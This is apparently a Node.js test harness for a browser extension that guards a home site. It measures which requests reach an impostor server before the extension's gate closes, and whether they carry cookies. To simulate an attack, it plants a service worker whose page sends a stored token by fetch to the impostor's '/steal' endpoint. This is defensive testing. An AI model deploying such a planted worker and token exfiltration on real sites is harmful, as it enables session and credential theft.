// count.mjs starts|starts-open|crashes chromium|firefox N [--no-cookies-permission]: N starts of the browser with a page of the home as its
// start page, while an impostor answers, and N with a page that a planted service worker answers. What reaches the impostor before the
// rules hold, and what of that carries cookies?
//
//   starts       the browser was closed while the gate was shut
//   starts-open  it was closed while the gate was open
//   crashes      it crashed while the gate was open
//
// For the last two each start is made from a copy of the same profile. Ends with a summary, and with 1 if something arrived once the rules
// held, if anything was green, or if the control failed.
import { cpSync, mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { attacker } from "./attacker.mjs";
import { startLab } from "./lab.mjs";
import { endBrowser, removeFolder } from "./machine.mjs";
import { KINDS, go, launch, leave, sleep, until, where } from "./browser.mjs";

const [mode, kind, number] = process.argv.slice(2);
const hasCookies = !process.argv.includes("--no-cookies-permission");
const count = Number(number);
if (!["starts", "starts-open", "crashes"].includes(mode) || !KINDS.includes(kind) || !(count > 0)) {
    console.error("usage: count.mjs starts|starts-open|crashes chromium|firefox N [--no-cookies-permission]");
    process.exit(64);
}

/** How long a start page may take to be at the gate, in milliseconds. */
const PATIENCE = 4000;

const lab = await startLab();
const thief = await attacker(lab);
const folder = mkdtempSync(join(tmpdir(), `doorlight-count-${kind}-`));
const [profile, copy] = [join(folder, "profile"), join(folder, "copy")];
const local = [lab.host, lab.other_host, `sub.${lab.host}`].join(",");
const prefs = { "network.dns.localDomains": local, "browser.sessionstore.resume_from_crash": false };
const start = (args = []) => launch(kind, lab, { folder, isInstalled: true, isLoaded: true, hasCookies, prefs, args });
const again = (own) => own.ask({ ask: "check-again", address: lab.address });
const stolen = () => thief.log.filter(({ url }) => url.startsWith("/steal")).length;
const atHome = async () => (await lab.requests()).filter(({ server, method }) => server === "home" && method !== "HEAD");

/** The pages of the home, its cookies, a token, and a worker for a part of it that answers with a page of its own. */
function furnish() {
    const steal = thief.https.url(`sub.${lab.host}`, "/steal");
    const send = `fetch("${steal}?" + localStorage.token, { mode: "no-cors", keepalive: true })`;
    const planted = `<!doctype html><title>Home</title><script>${send}</script>`;
    const lasting = (name, site) => `${name}=secret; Max-Age=99999; Secure; Path=/; SameSite=${site}`;
    thief.on("/steal", "");
    const headers = { "set-cookie": [lasting("lax", "Lax"), lasting("none", "None")] };
    thief.on("/start", { body: "<!doctype html><title>Home</title>", headers });
    thief.on("/planted/worker.js", {
        type: "text/javascript",
        body: `oninstall = () => skipWaiting(); onactivate = (event) => event.waitUntil(clients.claim());
            const answer = () => new Response(${JSON.stringify(planted)}, { headers: { "content-type": "text/html" } });
            onfetch = (event) => event.request.mode === "navigate" && event.respondWith(answer());`,
    });
}

/** One start, until the gate is red and no page of the home is open. */
async function run(path, name) {
    await lab.present(name);
    await lab.clear();
    thief.log.length = 0;
    const own = await start([`${lab.home}${path}`]);
    try {
        let greens = 0;
        let isShut = false;
        let visit;
        const began = Date.now();
        let nextVisit = began + PATIENCE;
        const places = async () => Promise.all((await own.browser.pages()).map(where));
        const isOver = async () => {
            if ((await own.action("")).some(({ badge }) => badge === "✓")) greens++;
            isShut ||= (await own.status()).light === "danger";
            // The control asks again if the start page was stopped, or its request to the thief failed.
            if (name === "good" && Date.now() > nextVisit) {
                nextVisit = Date.now() + PATIENCE;
                visit ??= await own.browser.newPage();
                await go(visit, `${lab.home}${path}`);
            }
            if (name === "good" && path.startsWith("/planted")) return stolen() > 0;
            if (name === "good") return (await atHome()).some(({ target }) => target === path);
            // A start page that was stopped without the gate in its place asks for no check.
            if (!isShut && Date.now() > began + PATIENCE) isShut = (await again(own)).light === "danger";
            return isShut && (await places()).every((place) => !place.startsWith(lab.home));
        };
        await until(isOver, { within: 60_000, every: 20, why: `the end of the start at ${path} (${name})` });
        await sleep(500);
        const early = await atHome();
        const isAtGate = (await places()).some((place) => place.includes("/gate.html#"));
        const scripts = stolen();
        if (name === "good") return { early, scripts };
        // From here on the rules hold: what another site asks for does not arrive.
        await lab.clear();
        const page = await own.browser.newPage();
        await leave(page, `${lab.elsewhere}/`);
        await page.evaluate((home) => {
            new Image().src = `${home}/start?late`;
            fetch(`${home}/start?late`, { mode: "no-cors", credentials: "include" }).catch(() => {});
        }, lab.home);
        await sleep(500);
        return { early, scripts, greens, isAtGate, late: await atHome() };
    } finally {
        await own.close();
    }
}

const blockedOnDisk = (id) => {
    const preferences = JSON.parse(readFileSync(join(profile, "Default/Preferences"), "utf8"));
    return (preferences.extensions?.settings?.[id]?.content_settings ?? []).length > 0;
};
const sums = { reached: 0, cookies: 0, planted: { reached: 0, cookies: 0 }, scripts: 0, green: 0, blank: 0, late: 0 };
let isControlGood = false;
try {
    furnish();
    let own = await start();
    if ((await own.guard()).light !== "trusted") throw new Error("the home is not green");
    await lab.command({ do: "upstream", address: `127.0.0.1:${thief.http.port}` });
    const page = await own.browser.newPage();
    await go(page, `${lab.home}/start?first`);
    await until(async () => (await where(page)).startsWith(lab.home), { why: "arriving at the home" });
    await page.evaluate(async () => {
        localStorage.token = "secret-token";
        const { installing } = await navigator.serviceWorker.register("/planted/worker.js");
        await new Promise((done) => installing.addEventListener("statechange", () => installing.state === "activated" && done()));
    });
    // What was stored is on the disk after a clean end.
    await own.close();
    own = await start();
    const light = (await again(own)).light;
    if (light !== "trusted") throw new Error(`after the first start the home is ${light}`);
    if (mode === "starts") {
        await lab.present("A5");
        await again(own);
    } else {
        const id = own.base.split("//")[1];
        await until(() => kind === "firefox" || !blockedOnDisk(id), { why: "the browser writes its settings down" });
        // Firefox writes its own within some seconds.
        await sleep(3000);
        if (mode === "crashes") endBrowser(folder);
    }
    await own.close();
    if (mode !== "starts") cpSync(profile, copy, { recursive: true, preserveTimestamps: true, verbatimSymlinks: true });
    const putBack = () => {
        if (mode === "starts") return;
        rmSync(profile, { recursive: true, force: true, maxRetries: 5, retryDelay: 200 });
        cpSync(copy, profile, { recursive: true, preserveTimestamps: true, verbatimSymlinks: true });
    };
    for (let n = 1; n <= 2 * count; n++) {
        putBack();
        const path = n % 2 ? "/start" : "/planted/start";
        const { early, scripts, greens, isAtGate, late } = await run(`${path}?${n}`, "A5");
        const withCookies = early.filter(({ headers }) => headers.cookie);
        const sum = n % 2 ? sums : sums.planted;
        if (early.length) sum.reached++;
        if (withCookies.length) sum.cookies++;
        if (scripts) sums.scripts++;
        if (greens) sums.green++;
        if (!isAtGate) sums.blank++;
        sums.late += late.length;
        const seen = early.map(({ method, target, headers }) => `${method} ${target}${headers.cookie ? " with cookies" : ""}`).join(", ");
        const place = isAtGate ? "" : "; the tab stays blank";
        const script = scripts ? "; the planted page's script ran" : "";
        console.log(`${n} ${path}: ${seen || "nothing"} arrived${script}${place}${greens ? "; GREEN" : ""}${late.length ? "; LATE" : ""}`);
    }
    // The control: with the good certificate both pages load, and the planted one sends the token.
    putBack();
    const plain = await run("/start?control", "good");
    putBack();
    isControlGood = plain.early.length > 0 && (await run("/planted/start?control", "good")).scripts > 0;
} finally {
    lab.stop();
    thief.stop();
    endBrowser(folder);
    removeFolder(folder);
}
const without = hasCookies ? "" : " without the permission over cookies";
const parts = [
    `${count} starts (${mode}, ${kind}${without}): ${sums.reached} reached the home before the rules held`,
    `of them ${sums.cookies} with cookies`,
    `of ${count} with a planted page ${sums.planted.reached} reached the home, ${sums.planted.cookies} with cookies`,
    `the planted page's script ran in ${sums.scripts}`,
    `${sums.green} green`,
    `${sums.blank} of ${2 * count} tabs stayed blank`,
    `once the rules held ${sums.late} requests arrived`,
    `the control ${isControlGood ? "held" : "FAILED"}`,
];
console.log(parts.join("; "));
process.exit(isControlGood && !sums.green && !sums.late ? 0 : 1);
